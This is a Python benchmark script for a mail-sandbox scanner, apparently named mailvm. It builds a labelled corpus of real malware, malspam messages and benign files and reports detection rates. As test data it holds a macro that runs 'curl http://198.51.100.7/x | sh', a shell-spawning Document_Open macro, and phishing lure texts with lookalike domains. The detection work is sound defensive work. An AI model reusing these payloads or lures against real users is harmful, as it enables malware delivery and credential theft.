"""Detection evaluation: ``make eval`` / ``python -m bench.detection``.

Scans a labelled development corpus with the real :class:`mailvm.scan.Scanner`
(the code ``mvctl scan`` runs: extraction, triage, the process backend's
sandbox), decides every sample with the default policy (:func:`mailvm.policy.decide`),
and writes ``docs/detection.md`` plus JSON and a PNG under ``bench/results/``:
per class, the detection rate (suspicious or worse, and malicious), the
false-positive rate of the benign classes, verdict counts, the findings that
fired and the median time, with and without detonation side by side.

Corpus (see ``bench/corpus/README.md``):

* **real malware**, from public collections, in ``bench/corpus/dev-malware.zip``
  (AES zip, password ``infected``, as oletools ships its samples), unpacked to a
  private temporary directory and only ever run through mailvm's sandbox;
* **malspam messages** made at run time around those samples (zip attachment,
  zip in zip, password zip with the password in the body);
* **benign files** of the same types from this Debian machine, chosen
  deterministically (sorted, seeded): Python modules, shell scripts, ELF tools,
  pip/setuptools ``.exe`` launchers, PDF and HTML documentation;
* **ham**: the SpamAssassin ham of ``$MAILVM_CORPUS`` when present, and plain
  and HTML messages made at run time.
"""

from __future__ import annotations

import argparse
import collections
import dataclasses
import email.message
import glob
import io
import json
import os
import random
import shutil
import statistics
import sys
import tempfile
import time
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable, Iterator

ROOT = Path(__file__).resolve().parent.parent
CORPUS_ZIP = ROOT / "bench" / "corpus" / "dev-malware.zip"
MANIFEST = ROOT / "bench" / "corpus" / "manifest.json"
RESULTS = ROOT / "bench" / "results"
DOC = ROOT / "docs" / "detection.md"
SEED = 20261205

MALICIOUS_CLASSES = ("script-dropper", "windows-pe", "office-maldoc", "shortcut-lure", "malspam-eml", "phish-body",
                     "crafted-lure")
BENIGN_CLASSES = ("benign-script", "benign-elf", "benign-pe", "benign-pdf", "benign-html", "ham")
CLASSES = MALICIOUS_CLASSES + BENIGN_CLASSES
FLAGGED = ("suspicious", "malicious")


@dataclass
class Sample:
    cls: str
    name: str
    path: Path
    message: bool
    label: str  # malicious | benign
    source: str = ""


@dataclass
class Result:
    sample: Sample
    verdict: str
    score: int
    action: str
    flags: list[str]
    seconds: float
    findings: list[str] = field(default_factory=list)
    sources: list[str] = field(default_factory=list)


# -- the corpus ----------------------------------------------------------------------------


def _unpack_malware(dest: Path) -> list[Sample]:
    import pyzipper

    if not CORPUS_ZIP.exists():
        return []
    meta = json.loads(MANIFEST.read_text())
    by_path = {s["path"]: s for s in meta["samples"]}
    out = []
    with pyzipper.AESZipFile(CORPUS_ZIP) as z:
        z.setpassword(meta["password"].encode())
        for name in sorted(z.namelist()):
            info = by_path.get(name)
            if info is None or name.endswith("/"):
                continue
            target = dest / name
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(z.read(name))
            out.append(Sample(info["class"], Path(name).name, target, False, "malicious", info["source"]))
    return out


def _message(subject: str, body: str, attachments: list[tuple[str, bytes, str]] = (), html: str | None = None) -> bytes:
    m = email.message.EmailMessage()
    m["From"] = "Accounts <billing@supplier-invoices.example>"
    m["To"] = "someone@example.com"
    m["Subject"] = subject
    m["Message-ID"] = f"<{abs(hash(subject + body)) % 10**12}@eval.mailvm>"
    m.set_content(body)
    if html is not None:
        m.add_alternative(html, subtype="html")
    for name, data, ctype in attachments:
        main, _, sub = ctype.partition("/")
        m.add_attachment(data, maintype=main, subtype=sub, filename=name)
    return m.as_bytes()


def _zip(members: list[tuple[str, bytes]], password: bytes | None = None) -> bytes:
    import pyzipper

    buf = io.BytesIO()
    if password:
        with pyzipper.AESZipFile(buf, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as z:
            z.setpassword(password)
            for n, d in members:
                z.writestr(n, d)
    else:
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for n, d in members:
                z.writestr(n, d)
    return buf.getvalue()


def _malspam(samples: list[Sample], dest: Path, rnd: random.Random) -> list[Sample]:
    """Real samples wrapped the way malspam carries them."""
    out = []
    pick = [s for s in samples if s.cls in ("script-dropper", "windows-pe", "office-maldoc")]
    rnd.shuffle(pick)
    styles = ("zip", "zip-in-zip", "password-zip", "plain")
    for i, s in enumerate(pick[:16]):
        style = styles[i % len(styles)]
        data = s.path.read_bytes()
        name = "Invoice_" + str(4000 + i) + Path(s.name).suffix
        if style == "zip":
            att = [("Invoice_" + str(4000 + i) + ".zip", _zip([(name, data)]), "application/zip")]
            body = "Please find the invoice attached."
        elif style == "zip-in-zip":
            inner = _zip([(name, data)])
            att = [("documents.zip", _zip([("invoice.zip", inner)]), "application/zip")]
            body = "Payment documents attached."
        elif style == "password-zip":
            att = [("secure_document.zip", _zip([(name, data)], b"7731"), "application/zip")]
            body = "The attached document is protected. Password: 7731"
        else:
            att = [(name, data, "application/octet-stream")]
            body = "See the attached file."
        p = dest / "malspam" / f"{i:02d}-{style}.eml"
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(_message(f"Invoice {4000 + i} overdue", body, att))
        out.append(Sample("malspam-eml", p.name, p, True, "malicious", f"{style} around {s.source}"))
    return out


PHISH = [
    ("Your mailbox is almost full", "Your mailbox is almost full. Verify your account within 24 hours or incoming "
     "messages will be held.", "https://micros0ft-office365-login.web.app/owa/?u=someone@example.com", "Verify now"),
    ("Password expires today", "Your password expires today. Keep your current password here.",
     "http://198.51.100.23/outlook/keep.php", "Keep password"),
    ("Unusual sign-in activity", "We detected unusual sign-in activity on your account. Confirm your identity.",
     "https://paypa1-secure-account.com/signin", "Confirm identity"),
    ("Shared document", "Anna shared a document with you. Sign in to view the document.",
     "https://docs-sharepoint-online.duckdns.org/view?id=3", "View document"),
    ("Account suspended", "Your account has been suspended. Update your billing information to restore access.",
     "https://bit.ly/3xYzAb", "Restore access"),
    ("Pending messages", "You have 6 pending incoming messages. Action required: release them now.",
     "https://xn--micrsoft-5va.com/release", "Release messages"),
]


def _phish_bodies(dest: Path) -> list[Sample]:
    out = []
    for i, (subject, text, url, cta) in enumerate(PHISH):
        html = f"<html><body><p>{text}</p><p><a href=\"{url}\">{cta}</a></p><p>IT Service Desk</p></body></html>"
        p = dest / "phish" / f"{i:02d}.eml"
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(_message(subject, text + "\n" + url, html=html))
        out.append(Sample("phish-body", p.name, p, True, "malicious", "crafted link-only lure"))
    return out


def _crafted(dest: Path) -> list[Sample]:
    """The crafted lures the tests detonate (a .docm whose Document_Open starts a shell, an ODT with a
    Basic macro, a remote-template .docx, a password form posting elsewhere, HTML smuggling a zip, a
    one-link PDF lure): built with the test suite's own builders, so they show in the evaluation too."""
    sys.path.insert(0, str(ROOT / "tests"))
    try:
        from office_builder import docx, odt
        from pdf_builder import Doc
        from test_guest_browser import PHISH, SMUGGLE
    except Exception as exc:  # the tests folder is part of the repository; say so if it is not there
        print(f"bench.detection: crafted lures unavailable: {exc}", file=sys.stderr)
        return []
    finally:
        sys.path.pop(0)
    shell = 'Private Sub Document_Open()\n    Shell "/bin/sh -c ""id > /tmp/owned; uname -a"""\nEnd Sub\n'
    pdf = Doc().page(lines=("Your document is ready",),
                     links=(("http://docs-secure-view.duckdns.org/doc/7781", (72, 500, 540, 700), "VIEW DOCUMENT"),)).build()
    items = {
        "invoice.docm": docx("Invoice 4711", vba={"ThisDocument": shell}),
        "notes.odt": odt("Meeting notes", basic='Shell("/bin/sh", 1, "-c ""curl http://198.51.100.7/x | sh""")'),
        "report.docx": docx("Report", remote_template="http://198.51.100.9/tpl.dotm"),
        "login.html": PHISH,
        "invoice.html": SMUGGLE,
        "shared-document.pdf": pdf,
    }
    out = []
    for name, data in items.items():
        p = dest / "crafted" / name
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
        out.append(Sample("crafted-lure", name, p, False, "malicious", "crafted, built by the test builders"))
    return out


def _pick(pattern: str | list[str], n: int, rnd: random.Random, ok: Callable[[str], bool] = lambda p: True) -> list[str]:
    paths = sorted(set(pattern if isinstance(pattern, list) else glob.glob(pattern, recursive=True)))
    paths = [p for p in paths if os.path.isfile(p) and not os.path.islink(p) and ok(p)]
    rnd.shuffle(paths)
    return sorted(paths[:n])


def _is_shell(path: str) -> bool:
    try:
        with open(path, "rb") as fh:
            head = fh.read(64)
    except OSError:
        return False
    return head.startswith((b"#!/bin/sh", b"#! /bin/sh", b"#!/bin/bash", b"#!/usr/bin/env bash"))


def _is_elf(path: str) -> bool:
    try:
        with open(path, "rb") as fh:
            return fh.read(4) == b"\x7fELF" and os.path.getsize(path) < 2_000_000
    except OSError:
        return False


def _benign(dest: Path, rnd: random.Random, n: int) -> list[Sample]:
    import sysconfig

    stdlib = sysconfig.get_paths()["stdlib"]
    site = sysconfig.get_paths()["purelib"]
    groups = {
        "benign-script": _pick(f"{stdlib}/*.py", n // 2, rnd) + _pick("/usr/bin/*", n - n // 2, rnd, _is_shell),
        "benign-elf": _pick("/usr/bin/*", n, rnd, _is_elf),
        "benign-pe": _pick(f"{site}/**/*.exe", n, rnd),
        "benign-pdf": _pick("/usr/share/doc/**/*.pdf", n, rnd, lambda p: os.path.getsize(p) < 5_000_000),
        "benign-html": _pick("/usr/share/doc/**/*.html", n, rnd, lambda p: os.path.getsize(p) < 2_000_000),
    }
    out = []
    for cls, paths in groups.items():
        for p in paths:
            out.append(Sample(cls, os.path.basename(p), Path(p), False, "benign", "this machine"))
    return out


HAM = [
    ("Lunch on Friday?", "Hi, are we still on for lunch on Friday? The place on 5th street opens at noon.", None),
    ("Minutes of the planning meeting", "Attached are the minutes. Next meeting: Tuesday 10:00.",
     "<p>Attached are the <b>minutes</b>. Next meeting: Tuesday 10:00. Agenda: "
     "<a href=\"https://wiki.example.com/planning\">wiki.example.com/planning</a></p>"),
    ("Your order has shipped", "Your order 1234 has shipped. Track it at https://shop.example.com/track/1234",
     "<p>Your order has shipped.</p><p><a href=\"https://shop.example.com/track/1234\">Track your parcel</a></p>"
     "<p>To sign in to your account, visit <a href=\"https://shop.example.com/account\">shop.example.com</a></p>"),
    ("Newsletter: December", "Read the newsletter online.",
     "<html><body><h1>December news</h1><p>New releases this month.</p>"
     "<a href=\"https://click.news.example.net/r?u=https%3A%2F%2Fwww.example.org%2Fnews\">Read more</a>"
     "<p><a href=\"https://www.example.org/unsubscribe\">Unsubscribe</a></p></body></html>"),
    ("Password changed", "Your password was changed on Tuesday. If this was you, no action is needed. Otherwise "
     "visit https://accounts.example.com/security", None),
]


def _ham(dest: Path, rnd: random.Random, n: int) -> list[Sample]:
    out = []
    corpus = Path(os.environ.get("MAILVM_CORPUS", str(ROOT.parent / "shared" / "corpus")))
    nice = corpus / "apache-spamassassin-tdata" / "t" / "data" / "nice"
    if nice.is_dir():
        for p in _pick(str(nice / "*"), n, rnd):
            out.append(Sample("ham", os.path.basename(p), Path(p), True, "benign", "SpamAssassin ham"))
    for i, (subject, text, html) in enumerate(HAM):
        p = dest / "ham" / f"{i:02d}.eml"
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(_message(subject, text, html=html))
        out.append(Sample("ham", p.name, p, True, "benign", "made at run time"))
    return out


def build_corpus(dest: Path, per_class: int) -> list[Sample]:
    rnd = random.Random(SEED)
    malware = _unpack_malware(dest / "malware")
    samples = malware + _malspam(malware, dest, rnd) + _phish_bodies(dest) + _crafted(dest)
    samples += _benign(dest, rnd, per_class)
    samples += _ham(dest, rnd, per_class)
    return samples


# -- scanning -----------------------------------------------------------------------------


class Evaluator:
    """One Scanner (with a lazily started in-process pool, as ``mvctl scan``) for a whole run."""

    def __init__(self, detonate: bool, work: Path, timeout: float) -> None:
        from mailvm.cli.scan import LazyPool
        from mailvm.config import Config
        from mailvm.policy import Policy
        from mailvm.scan import Scanner
        from mailvm.triage import Triage

        cfg = Config()
        cfg = dataclasses.replace(
            cfg,
            spool=dataclasses.replace(cfg.spool, dir=str(work / "spool")),
            scantable=dataclasses.replace(cfg.scantable, path=str(work / "table")),
            pool=dataclasses.replace(cfg.pool, backend="process", work_dir=str(work / "pool"), slots=1),
            links=dataclasses.replace(cfg.links, enabled=False),
        )
        self.cfg = cfg
        self.timeout = timeout
        self.policy = Policy()
        self.pool = LazyPool(cfg, None) if detonate else None
        self.scanner = Scanner(cfg, Triage(cfg.triage), None, self.pool, pins=_NoPins())

    def scan(self, s: Sample) -> Result:
        from mailvm.milter.service import outcomes_from_report
        from mailvm.policy import decide
        from mailvm.verdict import Finding

        t0 = time.monotonic()
        deadline = time.monotonic() + self.timeout
        if s.message:
            report = self.scanner.scan_message(s.path.read_bytes(), deadline=deadline, links=False)
        else:
            report = self.scanner.scan_file(s.path, s.name, deadline=deadline)
        d = report.to_dict()
        msg_findings = [Finding(f["id"], f["severity"], f.get("detail", "")) for f in d["findings"]]
        decision = decide(self.policy, outcomes_from_report(d), msg_findings)
        fired = sorted({f["id"] for a in d["artifacts"] for f in a["findings"] if f["severity"] >= 4}
                       | {f["id"] for f in d["findings"] if f["severity"] >= 4})
        return Result(s, decision.verdict, decision.score, decision.action, list(decision.flags),
                      time.monotonic() - t0, fired, sorted({a["source"] for a in d["artifacts"]}))

    def close(self) -> None:
        if self.pool is not None:
            self.pool.close()


class _NoPins:
    """The evaluation never consults an administrator's pins."""

    def get(self, sha: str) -> None:
        return None


def run(samples: list[Sample], detonate: bool, timeout: float, progress: bool) -> list[Result]:
    from tqdm import tqdm

    work = Path(tempfile.mkdtemp(prefix="mailvm-eval-"))
    ev = Evaluator(detonate, work, timeout)
    results = []
    try:
        for s in tqdm(samples, desc="detonate" if detonate else "static", disable=not progress, file=sys.stderr):
            try:
                results.append(ev.scan(s))
            except Exception as exc:  # one broken sample must not end the evaluation
                results.append(Result(s, "error", 0, "error", [], 0.0, [f"eval_error:{type(exc).__name__}"]))
    finally:
        ev.close()
        shutil.rmtree(work, ignore_errors=True)
    return results


# -- reporting ----------------------------------------------------------------------------


def summarise(results: list[Result]) -> dict[str, Any]:
    by_cls: dict[str, list[Result]] = collections.defaultdict(list)
    for r in results:
        by_cls[r.sample.cls].append(r)
    out = {}
    for cls in CLASSES:
        rs = by_cls.get(cls, [])
        if not rs:
            continue
        flagged = [r for r in rs if r.verdict in FLAGGED]
        blocked = [r for r in rs if r.action in ("reject", "quarantine", "discard", "hold", "strip")]
        fired = collections.Counter(f for r in rs for f in r.findings)
        out[cls] = {
            "label": rs[0].sample.label,
            "n": len(rs),
            "flagged": len(flagged),
            "malicious": sum(r.verdict == "malicious" for r in rs),
            "not_delivered": len(blocked),
            "verdicts": dict(collections.Counter(r.verdict for r in rs)),
            "median_s": round(statistics.median(r.seconds for r in rs), 2),
            "top_findings": fired.most_common(6),
            "detonated": sum("detonation" in r.sources for r in rs),
            "misses" if rs[0].sample.label == "malicious" else "false_positives": [
                {"name": r.sample.name, "verdict": r.verdict, "score": r.score, "findings": r.findings[:6]}
                for r in rs if (r.verdict not in FLAGGED) == (rs[0].sample.label == "malicious")][:10],
        }
    return out


def _pct(a: int, n: int) -> str:
    return f"{100 * a / n:.0f} %" if n else "-"


def write_report(dyn: dict[str, Any], static: dict[str, Any] | None, meta: dict[str, Any]) -> str:
    lines = [
        "# Detection evaluation",
        "",
        "Made by `make eval` (`python -m bench.detection`): the development corpus scanned by the real",
        "pipeline (extraction, triage, the process backend's sandbox) and decided with the **default policy**.",
        "`flagged` is suspicious or worse; for benign classes that is the false-positive rate. The static",
        "columns are the same run with `--no-detonate`, so the value of detonation is visible.",
        "",
        f"Run: {meta['date']}, {meta['samples']} samples, {meta['seconds']:.0f} s, backend `process`, "
        f"sample timeout {meta['timeout']:g} s.",
        "",
        "| class | label | n | flagged | malicious | not delivered | static flagged | static malicious | detonated | median s |",
        "|---|---|---|---|---|---|---|---|---|---|",
    ]
    for cls, d in dyn.items():
        st = (static or {}).get(cls, {})
        lines.append(
            f"| {cls} | {d['label']} | {d['n']} | {d['flagged']} ({_pct(d['flagged'], d['n'])}) | "
            f"{d['malicious']} ({_pct(d['malicious'], d['n'])}) | {d['not_delivered']} | "
            f"{st.get('flagged', '-')} | {st.get('malicious', '-')} | {d['detonated']} | {d['median_s']} |")
    mal = [d for d in dyn.values() if d["label"] == "malicious"]
    ben = [d for d in dyn.values() if d["label"] == "benign"]
    if mal and ben:
        n_m, n_b = sum(d["n"] for d in mal), sum(d["n"] for d in ben)
        lines += ["", f"**All malicious:** {sum(d['flagged'] for d in mal)} of {n_m} flagged, "
                      f"{sum(d['malicious'] for d in mal)} malicious. **All benign:** "
                      f"{sum(d['flagged'] for d in ben)} of {n_b} flagged (false positives)."]
    lines += ["", "## Verdicts and findings per class", ""]
    for cls, d in dyn.items():
        tops = ", ".join(f"`{f}` ({n})" for f, n in d["top_findings"]) or "none"
        lines.append(f"* **{cls}**: verdicts {d['verdicts']}; findings that fired most: {tops}")
    lines += ["", "## Misses and false positives (first ten per class)", ""]
    for cls, d in dyn.items():
        items = d.get("misses") or d.get("false_positives") or []
        if not items:
            continue
        kind = "missed" if "misses" in d else "false positives"
        lines.append(f"* **{cls}** ({kind}): " + "; ".join(
            f"{i['name'][:40]} -> {i['verdict']} {i['score']} ({', '.join(i['findings'][:3]) or 'no finding >= 4'})"
            for i in items))
    lines += ["", "## Corpus", "",
              "Real malware from public collections (`bench/corpus/README.md` names each source), kept in",
              "`bench/corpus/dev-malware.zip` (AES, password `infected`); malspam messages built around those",
              "samples at run time; crafted link-only phishing messages; benign files from the Debian machine",
              "the evaluation runs on (Python modules, shell scripts, ELF tools, pip/setuptools launchers, PDF",
              "and HTML documentation), ham from the SpamAssassin test data when present plus generated ham.",
              "Figures on held-out data will differ: this set is small and guided development."]
    return "\n".join(lines) + "\n"


def plot(dyn: dict[str, Any], static: dict[str, Any] | None, path: Path) -> None:
    try:
        from bench.common import pyplot

        plt = pyplot()
    except Exception:  # plotting is optional (the bench extra)
        return
    classes = list(dyn)
    rate = [100 * dyn[c]["flagged"] / dyn[c]["n"] for c in classes]
    srate = [100 * (static or {}).get(c, {}).get("flagged", 0) / dyn[c]["n"] for c in classes]
    fig, ax = plt.subplots(figsize=(10, 4.5))
    x = range(len(classes))
    ax.bar([i - 0.2 for i in x], rate, 0.4, label="with detonation")
    ax.bar([i + 0.2 for i in x], srate, 0.4, label="static only")
    ax.set_xticks(list(x), classes, rotation=35, ha="right")
    ax.set_ylabel("% flagged (suspicious or worse)")
    ax.set_title("mailvm detection per class (benign classes: false positives)")
    ax.legend()
    fig.tight_layout()
    fig.savefig(path, dpi=110)
    plt.close(fig)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m bench.detection", description=__doc__.split("\n\n")[0])
    ap.add_argument("--classes", nargs="*", choices=CLASSES, help="only these classes")
    ap.add_argument("--limit", type=int, default=0, help="at most N samples per class (0: all)")
    ap.add_argument("--per-class", type=int, default=20, help="benign files and ham taken per class (default 20)")
    ap.add_argument("--no-detonate", action="store_true", help="static analysis only (no second column)")
    ap.add_argument("--no-static-column", action="store_true", help="skip the --no-detonate comparison run")
    ap.add_argument("--timeout", type=float, default=90.0, help="seconds per sample (default 90)")
    ap.add_argument("--out", default=str(DOC), help="the Markdown report (default docs/detection.md)")
    ap.add_argument("--quiet", action="store_true", help="no progress bar")
    args = ap.parse_args(argv)

    import logging

    logging.basicConfig(level=logging.ERROR)
    t0 = time.monotonic()
    work = Path(tempfile.mkdtemp(prefix="mailvm-corpus-"))
    try:
        samples = build_corpus(work, args.per_class)
        if args.classes:
            samples = [s for s in samples if s.cls in args.classes]
        if args.limit:
            count: collections.Counter[str] = collections.Counter()
            kept = []
            for s in samples:
                if count[s.cls] < args.limit:
                    kept.append(s)
                    count[s.cls] += 1
            samples = kept
        dyn_results = run(samples, not args.no_detonate, args.timeout, not args.quiet)
        static_results = None if (args.no_detonate or args.no_static_column) else run(samples, False, args.timeout,
                                                                                       not args.quiet)
    finally:
        shutil.rmtree(work, ignore_errors=True)
    dyn = summarise(dyn_results)
    static = summarise(static_results) if static_results is not None else None
    meta = {"date": time.strftime("%Y-%m-%d"), "samples": len(dyn_results), "seconds": time.monotonic() - t0,
            "timeout": args.timeout}
    RESULTS.mkdir(parents=True, exist_ok=True)
    (RESULTS / "detection.json").write_text(json.dumps({"meta": meta, "detonation": dyn, "static": static}, indent=1))
    plot(dyn, static, RESULTS / "detection.png")
    text = write_report(dyn, static, meta)
    Path(args.out).write_text(text)
    print(text)
    return 0


if __name__ == "__main__":
    sys.exit(main())
